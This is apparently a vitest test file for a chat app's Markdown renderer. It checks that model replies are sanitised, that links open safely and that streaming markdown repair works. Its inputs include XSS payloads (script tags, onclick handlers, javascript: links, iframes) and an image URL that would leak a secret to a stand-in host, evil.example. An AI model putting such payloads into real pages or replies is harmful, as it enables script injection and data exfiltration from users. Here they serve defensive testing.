import { createElement } from "react";
import { renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "@/components/chat/markdown";

const html = (text: string, streaming = false) =>
  renderToString(createElement(Markdown, { text, streaming }));

describe("model output renders as sanitised markdown (issue 12)", () => {
  it("[R110] drops scripts, event handlers and javascript: links", () => {
    const out = html(
      'Hi <script>alert(1)</script><b onclick="alert(2)">x</b> [go](javascript:alert(3)) <iframe src="https://evil.example"></iframe>',
    );
    expect(out).not.toContain("<script");
    expect(out).not.toContain("onclick");
    expect(out).not.toContain("javascript:");
    expect(out).not.toContain("<iframe");
    // The blocked link says why, not "Blocked URL: undefined" (its href is gone).
    expect(out).not.toContain("undefined");
    expect(out).toContain('title="Link blocked: only web and mail links open from a reply"');
  });

  it("[R110] never loads an image: remote and data images are blocked", () => {
    const out = html(
      "![leak](https://evil.example/x.png?q=secret) ![d](data:image/png;base64,AAAA) <img src=https://evil.example/y.png>",
    );
    expect(out).not.toMatch(/<img[^>]+src=/);
    expect(out).not.toContain("evil.example/x.png");
  });

  it("[R110] opens links in a new tab with no opener and no referrer", () => {
    const out = html("see [the docs](https://example.com/docs)");
    expect(out).toMatch(/<a[^>]*href="https:\/\/example.com\/docs"/);
    expect(out).toContain('target="_blank"');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
  });

  it("[R110] renders tables, code blocks and math", () => {
    const out = html(
      "| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x: number = 1;\n```\n\n$$e^{i\\pi}+1=0$$",
    );
    expect(out).toContain("<table");
    expect(out).toContain('data-streamdown="code-block"');
    expect(out).toContain("const x");
    expect(out).toContain("katex");
  });

  it("a long table shows whole: no height cap, no scroll box of its own", () => {
    const rows = Array.from({ length: 30 }, (_, i) => `| day ${i} | walk |`).join("\n");
    const out = html(`| day | plan |\n|---|---|\n${rows}`);
    expect(out).toContain("day 29");
    expect(out).not.toMatch(/max-height/i);
  });

  it("[R110] repairs unterminated markdown while it streams", () => {
    const out = html("This is **bold and still stream", true);
    expect(out).toContain('data-streamdown="strong"');
    expect(out).not.toContain("**");
  });

  it("[R296] a complete reply is not repaired: an unclosed construct shows as written", () => {
    // A reply quoting a cut-off line: repaired, its `[` swallowed the next paragraph into a
    // link to nowhere.
    const text = 'He wrote: "see [the notes\n\nContext used: 603 tokens.';
    expect(html(text, true)).toContain("incomplete-link");
    const done = html(text);
    expect(done).not.toContain("incomplete-link");
    expect(done).toContain("see [the notes</p>");
    expect(done).toContain("<p>Context used: 603 tokens.</p>");
    const bold = html("This is **bold and never closed");
    expect(bold).not.toContain('data-streamdown="strong"');
    expect(bold).toContain("**bold and never closed");
  });
});
